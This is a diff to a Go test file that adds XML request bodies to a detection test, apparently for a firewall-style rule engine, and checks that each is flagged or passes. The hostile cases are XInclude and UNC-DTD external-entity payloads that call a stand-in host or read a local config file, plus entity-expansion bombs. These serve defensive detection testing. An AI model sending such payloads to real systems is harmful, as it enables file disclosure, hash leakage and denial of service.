@@ -312,6 +312,28 @@ func TestXMLBodies(t *testing.T) {
 		{`<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "https://mybatis.org/dtd/mybatis-3-mapper.dtd"><mapper namespace="a"/>`, ""},
 		{`<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd"><log4j:configuration/>`, ""},
 		{`<!DOCTYPE note [<!ENTITY co "Example Corp"><!ENTITY sig "&co; team">]><note>&sig;</note>`, ""},
+		// XInclude in a parsed body (the decoder splits the include
+		// element's attributes), a UNC DTD (an NTLM hash to the host),
+		// laughs three wide, one long entity referred to thousands of
+		// times.
+		{`<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="http://oast.example/x"/></foo>`, "xxe-external-entity"},
+		{`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/app/config/application.yml" parse="text"/></soap:Body></soap:Envelope>`, "xxe-external-entity"},
+		{`<!DOCTYPE foo SYSTEM "\\oast.example\share\x.dtd"><foo/>`, "xxe-external-entity"},
+		{`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><d>&c;&c;&c;</d>`, "xml-entity-expansion"},
+		{`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "` + strings.Repeat("A", 12000) + `">]><d>` + strings.Repeat("&a;", 200) + `</d>`, "xml-entity-expansion"},
+		// What office, commerce and graphics tools send: cXML punch-out,
+		// XSLT's HTML5 document type, Illustrator's namespace entities,
+		// XHTML's character entities, a legal line of three entities.
+		{`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML payloadID="1@x"><Header/></cXML>`, ""},
+		{`<!DOCTYPE html SYSTEM "about:legacy-compat"><html><body/></html>`, ""},
+		{`<?xml version="1.0" encoding="utf-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
+	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/"><!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
+	<!ENTITY ns_graphs "http://ns.adobe.com/Graphs/1.0/"><!ENTITY ns_vars "http://ns.adobe.com/Variables/1.0/">
+	<!ENTITY ns_imrep "http://ns.adobe.com/ImageReplacement/1.0/"><!ENTITY ns_sfw "http://ns.adobe.com/SaveForWeb/1.0/">
+	<!ENTITY ns_custom "http://ns.adobe.com/GenericCustomNamespace/1.0/"><!ENTITY ns_adobe_xpath "http://ns.adobe.com/XPath/1.0/">
+]><svg xmlns:x="&ns_extend;" xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>`, ""},
+		{`<?xml version="1.0"?><!DOCTYPE html [<!ENTITY nbsp "&#160;"><!ENTITY copy "&#169;"><!ENTITY mdash "&#8212;"><!ENTITY ndash "&#8211;"><!ENTITY hellip "&#8230;"><!ENTITY lsquo "&#8216;"><!ENTITY rsquo "&#8217;"><!ENTITY ldquo "&#8220;"><!ENTITY rdquo "&#8221;">]><html><p>a&nbsp;b</p></html>`, ""},
+		{`<?xml version="1.0"?><!DOCTYPE book [<!ENTITY company "Acme"><!ENTITY year "2024"><!ENTITY legal "&#169; &year; &company; &amp; affiliates">]><book><para>&legal;</para></book>`, ""},
 	} {
 		got := postRules(ds, "/api/v1/import", "application/xml", c.body)
 		if c.want == "" && len(got) > 0 || c.want != "" && !slices.Contains(got, c.want) {
